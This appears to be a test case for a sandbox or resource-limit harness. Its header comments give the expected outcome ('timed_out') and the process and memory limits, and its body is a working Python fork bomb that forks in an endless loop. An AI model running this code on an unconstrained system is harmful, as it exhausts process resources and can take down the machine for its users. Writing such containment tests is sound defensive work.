# attack: the fork bomb: every process forks without end
# must end: timed_out
# limits: wall=2s processes=64 memory=512m
# with: neighbour
# below strong: timed_out or interrupted
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
